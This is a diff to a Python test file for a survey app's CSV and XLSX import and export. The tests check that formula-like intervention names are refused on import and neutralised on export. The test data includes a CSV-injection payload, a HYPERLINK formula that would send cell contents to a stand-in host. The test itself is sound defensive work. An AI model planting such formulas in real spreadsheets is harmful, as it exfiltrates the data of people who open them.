@@ -362,8 +362,12 @@ HOSTILE = '=HYPERLINK("http://example.invalid/?x="&A1,"Klicka")'
 
 
 def test_formulas_are_inert_in_csv_and_xlsx_and_round_trip(app, runner, tmp_path, database_url):
+    from sqlalchemy import text as sql
+
+    from surveys import db
     from tests.conftest import empty_database
 
+    hostile = [HOSTILE, "+46 Insats", "@sum", "-minus"]
     rows = (
         HEADER
         + f'2024,personal,"{HOSTILE.replace(chr(34), chr(34) * 2)}",,,6,5,,,,,,,,,\n'
@@ -371,7 +375,27 @@ def test_formulas_are_inert_in_csv_and_xlsx_and_round_trip(app, runner, tmp_path
         + "2024,personal,@sum,,,4,,,,,,,,,,\n"
         + "2024,personal,-minus,,,3,,,,,,,,,,\n"
     )
-    assert runner.invoke(args=["import", "answers", write(tmp_path, "f.csv", rows)]).exit_code == 0
+    refused = runner.invoke(args=["import", "answers", write(tmp_path, "f.csv", rows)])
+    assert refused.exit_code != 0  # a new insats may not be named like a formula (issue 18)
+    assert refused.output.count("får inte börja med =, +, - eller @") == 4
+    # names from before that rule are still exported inert
+    with app.app_context():
+        for i, name in enumerate(hostile):
+            db.session().execute(
+                sql("INSERT INTO intervention (id, name, name_key) VALUES (:id, :n, :k)"),
+                {"id": f"gammal{i}", "n": name, "k": f"gammal{i}"},
+            )
+        db.session().commit()
+    plain = HEADER + "".join(f"2024,personal,Insats {i},,,{6 - i},,,,,,,,,,\n" for i in range(4))
+    assert runner.invoke(args=["import", "answers", write(tmp_path, "p.csv", plain)]).exit_code == 0
+    with app.app_context():
+        db.session().execute(
+            sql(
+                "UPDATE response SET intervention_id = 'gammal' || "
+                "(SELECT substr(name, 8) FROM intervention WHERE id = response.intervention_id)"
+            )
+        )
+        db.session().commit()
     first = runner.invoke(args=["export", "answers"]).output
     # every cell that a spreadsheet would run starts with an apostrophe
     assert "\"'=HYPERLINK(" in first or "'=HYPERLINK(" in first
@@ -389,12 +413,16 @@ def test_formulas_are_inert_in_csv_and_xlsx_and_round_trip(app, runner, tmp_path
     cells = [c for row in load_workbook(xlsx).active.iter_rows() for c in row if c.value == HOSTILE]
     assert cells
     assert all(c.data_type == "s" for c in cells)
-    # export → import → export is identical, through CSV and through XLSX
-    for source in (write(tmp_path, "again.csv", first), str(xlsx)):
+    # ordinary names: export → import → export is identical, through CSV and through XLSX
+    empty_database(database_url)
+    assert runner.invoke(args=["import", "answers", write(tmp_path, "p.csv", plain)]).exit_code == 0
+    csv_out = runner.invoke(args=["export", "answers"]).output
+    runner.invoke(args=["export", "answers", "--format", "xlsx", "--output", str(xlsx)])
+    for source in (write(tmp_path, "again.csv", csv_out), str(xlsx)):
         empty_database(database_url)
         result = runner.invoke(args=["import", "answers", source])
         assert result.exit_code == 0, result.output
-        assert runner.invoke(args=["export", "answers"]).output == first
+        assert runner.invoke(args=["export", "answers"]).output == csv_out
 
 
 def csv_cells(line: str):
